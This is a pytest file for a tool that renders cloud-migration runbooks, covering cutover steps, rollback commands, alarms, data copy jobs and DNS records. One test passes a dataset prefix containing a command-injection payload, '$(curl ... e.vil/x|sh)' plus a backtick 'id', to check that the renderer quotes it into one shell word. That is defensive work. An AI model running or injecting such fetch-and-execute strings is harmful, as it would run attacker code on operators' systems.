"""`runbook.md`: ordered steps, exact commands to advance and roll back, checks and thresholds."""

from __future__ import annotations

import copy
import re
from typing import Any

import yaml

from lz.review.runbook import render_runbook, rollback_all_command, step_command
from lz.spec import load_landing_zone
from lz.spec.wave import load_wave
from tests.helpers import ROOT, example_spec

NS = "landing-zone"
STACK = "wave-1-dev"


def raw_wave() -> dict[str, Any]:
    data = yaml.safe_load((ROOT / "stacks" / "Pulumi.wave-1-dev.yaml").read_text())
    return copy.deepcopy(data["config"][f"{NS}:wave"])


def render(raw: dict[str, Any] | None = None, stack: str = STACK) -> str:
    wave = load_wave(raw or raw_wave(), file="w", namespace=NS)
    foundation = load_landing_zone(example_spec(), file="f", namespace=NS)
    return render_runbook(wave, foundation, stack)


def section(text: str, title: str) -> str:
    match = re.search(rf"^## {re.escape(title)}.*?(?=^## |\Z)", text, re.S | re.M)
    assert match, f"no section {title!r}"
    return match.group(0)


def test_sections_come_in_order() -> None:
    text = render()
    headings = re.findall(r"^## (\d)\. ", text, re.M)
    assert headings == ["1", "2", "3", "4", "5", "6", "7"]
    assert "## 2. Bulk copy" in text and "## 3. Delta sync" in text and "## 4. Verification" in text
    assert "## 6. Final switch" in text and "## 7. Decommission" in text


def test_every_canary_step_has_its_command_its_rollback_and_its_thresholds() -> None:
    text = render()
    cutover = section(text, "5. Cutover")
    for step, target in enumerate([5, 25, 50, 100]):
        block = re.search(rf"### Step {step}: {target} % to the target.*?(?=^### |\Z)", cutover, re.S | re.M)
        assert block, step
        body = block.group(0)
        assert (
            f"pulumi config set --path landing-zone:wave.cutover.current_step {step} --stack wave-1-dev "
            "&& pulumi up --stack wave-1-dev"
        ) in body
        assert "at most 1.00%" in body and "at most 800 ms" in body and "10 minutes" in body
        if step:
            assert f"roll back to step {step - 1}" in body
            assert step_command(step - 1, STACK) in body
        else:
            assert "roll back to step" not in body
    assert "| 0 | 5 % | 95 % | current |" in cutover
    assert "| 3 | 100 % | 0 % | next |" in cutover
    assert "answers only `api.europe-west4.acme-ai.example.com`" in cutover


def test_rollback_everything_and_where_the_metrics_come_from() -> None:
    cutover = section(render(), "5. Cutover")
    assert "### Roll back everything" in cutover
    assert rollback_all_command(STACK) in cutover.split("### Roll back everything", 1)[1]
    assert "wave.cutover.rolled_back true" in rollback_all_command(STACK)
    assert "acme-dev-wave-1-rollback-error-rate" in cutover and "acme-dev-wave-1-rollback-p99-latency" in cutover
    # DNS on Route 53, the API on GCP: the runbook sends the operator to Cloud Monitoring, not CloudWatch
    assert "in gcp europe-west4, where the target runs" in cutover and "Cloud Monitoring alert policies" in cutover
    assert "googlemanagedprometheus" in cutover and "http_server_request_duration_seconds_count" in cutover
    assert "gcloud monitoring policies list --project acme-ai-dev" in cutover
    assert "aws cloudwatch describe-alarms" not in cutover and "Weighted DNS in aws" in cutover


def test_alarms_default_to_the_dns_cloud_and_read_what_the_aws_gateway_writes() -> None:
    raw = raw_wave()
    del raw["cutover"]["target"]
    cutover = section(render(raw), "5. Cutover")
    assert "aws cloudwatch describe-alarms --region eu-west-1" in cutover and "CloudWatch alarms" in cutover
    assert "`LandingZone/Rollback`" in cutover and "`awsemf/rollback`" in cutover
    assert "base2_exponential_bucket_histogram" in cutover and "LandingZone/Migration" not in cutover


def test_bulk_delta_and_verification_name_the_real_jobs() -> None:
    text = render()
    bulk = section(text, "2. Bulk copy")
    assert "gcloud transfer jobs run transferJobs/acme-dev-wave-1-training-data --project acme-ai-dev" in bulk
    assert (
        "az datafactory pipeline create-run --resource-group rg-acme-dev-weu-wave-1 --factory-name "
        "adf-acme-dev-wave-1-weu-"
    ) in bulk
    assert "gcloud database-migration migration-jobs start acme-dev-wave-1-feature-store --region europe-west4" in bulk
    delta = section(text, "3. Delta sync")
    assert "daily at 02:00 UTC" in delta and "every 6 hours" in delta
    assert "az datafactory trigger start" in delta
    verify = section(text, "4. Verification")
    assert "checksum" in verify
    assert "gs://acme-dev-wave-1-training-data-" in verify and "s3://acme-legacy-training-data/datasets/" in verify
    assert "pg_stat_user_tables" in verify


def test_prerequisites_name_secrets_by_key_and_source_settings() -> None:
    pre = section(render(), "1. Prerequisites")
    assert "pulumi config set --secret wave-1-s3-keys" in pre
    assert "pulumi config set --secret wave-1-feature-store-password" in pre
    assert "wal_level = logical" in pre
    assert "arn:aws:iam::222222222222:role/acme-storage-transfer-reader" in pre


def test_final_switch_stops_cdc_and_deltas() -> None:
    final = section(render(), "6. Final switch")
    assert "gcloud database-migration migration-jobs promote acme-dev-wave-1-feature-store" in final
    assert "gcloud transfer jobs update transferJobs/acme-dev-wave-1-training-data --status=disabled" in final
    assert "az datafactory trigger stop" in final


def test_commands_follow_the_stack_name() -> None:
    text = render(stack="wave-1-prod")
    assert "--stack wave-1-prod" in text and "--stack wave-1-dev" not in text


def test_blue_green_on_azure_dns() -> None:
    raw = raw_wave()
    raw["cutover"] = {
        "strategy": "blue-green",
        "hostname": "app.acme.example.com",
        "dns": {"cloud": "azure", "zone": "rg-dns/acme.example.com"},
        "source_endpoint": "blue.acme.example.com",
        "target_endpoint": "green.acme.example.com",
        "rollback": {"max_error_rate": 0.05, "max_p99_latency_ms": 300, "evaluation_minutes": 5},
    }
    cutover = section(render(raw), "5. Cutover")
    assert "### Step 0: 0 % to the target (current)" in cutover and "### Step 1: 100 % to the target" in cutover
    assert "answers only `blue.acme.example.com`" in cutover
    assert "AppRequests" in cutover and "az graph query" in cutover
    assert "above 5.00 %" in cutover and "300 ms" in cutover


def test_datasets_only_wave_has_no_cutover_sections() -> None:
    raw = raw_wave()
    del raw["cutover"], raw["databases"]
    text = render(raw)
    assert "## 5." not in text and "## 6." not in text and "## 7. Decommission" in text


def test_deterministic() -> None:
    assert render() == render()
    assert "\n\n\n" not in render()


def test_user_text_in_commands_stays_one_shell_word() -> None:
    """A prefix like `datasets/$(curl ...|sh)/` is an argument, never a command."""
    import shlex

    raw = raw_wave()
    hostile = "datasets/$(curl -s https://e.vil/x|sh)/it's `id`/"
    for d in raw["datasets"]:
        d["source"]["prefix"] = hostile
    text = render(raw)
    commands = [
        line.strip()
        for line in text.splitlines()
        if "curl" in line and line.strip().startswith(("aws ", "gcloud ", "az "))
    ]
    assert len(commands) >= 4
    for command in commands:
        words = shlex.split(command.split(" | ")[0].split("  #")[0])
        assert any(hostile in w for w in words), command  # the whole prefix survives inside one word
    table = next(line for line in text.splitlines() if line.startswith("| 1 | dataset"))
    assert "`id`" not in table  # user text cannot close a code span in the Markdown either


def test_an_existing_simple_record_is_turned_into_the_weighted_source_first() -> None:
    pre = section(render(), "1. Prerequisites")
    assert "Route 53 refuses the weighted records" in pre
    assert "aws route53 change-resource-record-sets --hosted-zone-id Z04517273GXSK3KPIQ8ZE" in pre
    assert '"SetIdentifier": "source", "Weight": 100' in pre
    assert '"Value": "legacy-api.eu-west-1.acme-ai.example.com"' in pre
    assert '"Action": "DELETE"' in pre and '"Action": "CREATE"' in pre
